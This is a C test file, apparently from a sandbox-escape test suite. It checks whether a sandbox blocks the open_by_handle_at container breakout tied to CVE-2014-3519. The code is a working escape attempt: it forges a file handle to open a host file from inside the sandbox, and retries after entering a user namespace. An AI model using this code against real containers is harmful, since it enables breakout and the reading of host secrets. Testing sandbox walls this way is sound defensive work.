/* SPDX-License-Identifier: Apache-2.0 */
/*
 * wall: filter: no open_by_handle_at; no capabilities
 * cve: CVE-2014-3519
 * off: host
 * behind: --allow-userns --syscalls-allow @handles
 * as: root
 * args: {handle}
 * setup: handle
 *
 * A handle names a file of a file system, whatever part of it is mounted here:
 * it opens by way of the working directory. "handle FILE" tells that of a file
 * outside, where an attacker would guess it from the inode's number.
 */
#include "attack.h"

union handle {
	struct file_handle head;
	unsigned char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

static void tell(const char *path, union handle *handle)
{
	int mount;

	if (name_to_handle_at(AT_FDCWD, path, &handle->head, &mount, 0))
		broken("name_to_handle_at");
	printf("%d", handle->head.handle_type);
	for (unsigned int i = 0; i < handle->head.handle_bytes; i++)
		printf(":%d", handle->head.f_handle[i]);
	puts("");
	exit(0);
}

static int try_open(int dir, union handle *handle)
{
	int fd = open_by_handle_at(dir, &handle->head, O_RDONLY);

	if (fd >= 0 && is_secret(fd))
		through("a file by its handle");
	return fd;
}

int main(int argc, char **argv)
{
	union handle handle = { .head.handle_bytes = MAX_HANDLE_SZ };
	int dir = open(".", O_RDONLY | O_DIRECTORY);
	unsigned int n = 0;
	int error;

	if (argc < 3 || dir < 0)
		broken("arguments");
	if (is(argv[1], "handle"))
		tell(argv[2], &handle);
	handle.head.handle_type = (int)strtol(argv[2], NULL, 10);
	for (char *p = strchr(argv[2], ':'); p; p = strchr(p + 1, ':'))
		handle.head.f_handle[n++] = (unsigned char)strtol(p + 1, 0, 10);
	handle.head.handle_bytes = n;
	try_open(dir, &handle);
	error = errno;
	/* Since Linux 6.13 also who owns the mount namespace may. */
	if (!enter_userns(CLONE_NEWNS)) {
		dir = open(".", O_RDONLY | O_DIRECTORY);
		try_open(dir, &handle);
		error = errno;
	}
	errno = error;
	refused("open_by_handle_at");
}
